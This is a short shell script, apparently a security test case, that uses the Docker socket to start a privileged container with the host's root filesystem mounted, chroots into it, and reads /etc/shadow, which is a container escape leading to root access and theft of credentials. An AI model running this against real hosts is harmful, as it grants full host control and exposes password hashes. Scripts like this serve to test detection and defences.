#!/bin/sh
. /opt/case/case.sh

node -e '
const http = require("http");
const ask = (method, path, body) => new Promise((ok, no) => {
    const r = http.request({ socketPath: "/run/docker.sock", method, path, headers: { "Content-Type": "application/json" } }, a => {
        let t = ""; a.on("data", d => t += d).on("end", () => ok(t)); }).on("error", no);
    r.end(body ? JSON.stringify(body) : undefined);
});
(async () => {
    const id = JSON.parse(await ask("POST", "/v1.43/containers/create?name=sys", { Image: "alpine", Cmd: ["chroot", "/mnt", "sh", "-c", "id"], HostConfig: { Binds: ["/:/mnt"], PidMode: "host", Privileged: true } })).Id;
    await ask("POST", `/v1.43/containers/${id}/start`);
    await ask("POST", `/v1.43/containers/${id}/exec`, { Cmd: ["cat", "/mnt/etc/shadow"], AttachStdout: true });
    process.exit(id ? 0 : 1);
})();'
took_place
